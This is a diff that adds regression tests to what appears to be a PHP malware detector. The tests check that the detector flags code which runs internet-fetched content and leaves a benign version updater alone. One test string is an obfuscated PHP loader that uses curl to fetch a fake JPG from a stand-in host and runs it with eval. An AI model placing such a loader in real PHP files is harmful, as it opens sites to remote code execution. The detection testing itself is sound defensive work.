@@ -1594,6 +1594,13 @@ mod tests {
             "{:?}",
             whys("MimeTypeController.php", generator)
         );
+        // Regression: fresh106's `love.php` runs a picture fetched from any site as a page;
+        // a version file fetched and saved by an updater that names PHP runs nothing.
+        let love = "<?php ${'GLOBALS'}['a'] = 'x'; ${${'GLOBALS'}['a']} = curl_init(); curl_setopt(${${'GLOBALS'}['a']}, CURLOPT_URL, 'https://x.example/hx.jpg');\n\
+            $r = curl_exec(${${'GLOBALS'}['a']}); eval('?>' . $r);";
+        assert!(whys("love.php", love).contains(&Why::CodeFromInternet), "{:?}", whys("love.php", love));
+        let updater = "<?php $v = file_get_contents('https://updates.example.com/version.txt'); file_put_contents(__DIR__ . '/version.txt', $v); include 'config.php';";
+        assert!(whys("update.php", updater).is_empty(), "{:?}", whys("update.php", updater));
         // A picture from there shown in a page is a picture.
         let shown = "<?php $p = file_get_contents('https://user-images.githubusercontent.com/1/2-3.jpg'); echo base64_encode($p);";
         assert!(whys("a.php", shown).is_empty());
